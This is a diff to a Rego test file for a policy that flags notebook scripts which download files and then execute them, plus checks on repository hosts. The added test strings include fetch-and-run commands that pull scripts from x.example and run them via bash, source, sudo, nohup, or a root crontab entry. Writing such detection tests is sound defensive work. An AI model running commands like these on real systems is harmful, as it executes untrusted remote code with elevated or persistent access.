@@ -60,6 +60,11 @@ safe := [
 	"curl https://x.example/x -o data.json && python train.py",
 	"curl -O https://x.example/i.sh\nsha256sum -c sums\nbash i.sh",
 	"wget -qO- https://x.example/x\nbash x.txt",
+	"wget https://x.example/data.csv\npython train.py data.csv",
+	"curl -s https://x.example/y >/dev/null; ls i.sh",
+	"wget -O - https://x.example/y; bash -x - ; bash x/",
+	"wget https://x.example/; curl -o x/ https://x.example/y; bash x/",
+	"wget https://x.example/data\ndata --version",
 	"aws s3 cp s3://team/i.sh . && bash i.sh",
 	"true\n# curl https://x.example/i.sh | sh",
 ]
@@ -226,7 +231,11 @@ test_sm_sec_005_fails_for_files_that_are_fetched_and_run if {
 		"curl -fsSLo i.sh https://x.example/y\nsource ./i.sh",
 		"curl --output i.sh https://x.example/y; sh i.sh",
 		"curl -s https://x.example/y > i.sh; . i.sh",
+		"curl -s https://x.example/y >i.sh 2>/dev/null; bash -x i.sh",
 		"curl -LO https://x.example/i.sh\nchmod +x i.sh",
+		"(curl -LO https://x.example/i.sh)\n./i.sh",
+		"wget https://x.example/i.sh\nzsh i.sh",
+		"wget https://x.example/i.sh\n( ./i.sh )",
 		"wget https://x.example/i.sh\nsudo ./i.sh",
 		"wget -q https://x.example/i.sh -O /tmp/i.sh; nohup /tmp/i.sh",
 		"wget https://x.example/i.sh\n(crontab -l; echo '5 * * * * /usr/bin/python3 /root/i.sh') | crontab -",
@@ -275,4 +284,16 @@ test_sm_sec_007_hosts_however_they_are_written if {
 	count(notebook_code.deny["SM-SEC-007"]) == 1 with input as repository({"repository_url": "https://git.example/x", "secret_arn": "arn:secret"}) with data.config as with_port
 	fips := repository({"repository_url": "https://git-codecommit-fips.us-east-1.amazonaws.com/v1/repos/code"})
 	count(notebook_code.deny["SM-SEC-007"]) == 0 with input as fips with data.config as hosts
+}
+
+test_sm_sec_005_quotes_are_no_part_of_an_index if {
+	every text in ["pip install --index-url \"https://mirror.example\" torch", "pip install --index-url 'https://mirror.example' torch", "pip install --index-url https://mirror.example torch"] {
+		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text) with data.config as listing
+	}
+}
+
+# A name of one letter is a name.
+test_sm_sec_005_names_of_files_however_short if {
+	count(notebook_code.deny["SM-SEC-005"]) == 1 with input as script("curl -o ab https://x.example/y; bash ab")
+	count(notebook_code.deny["SM-SEC-005"]) == 1 with input as script("wget https://x.example/ab; bash ab")
 }
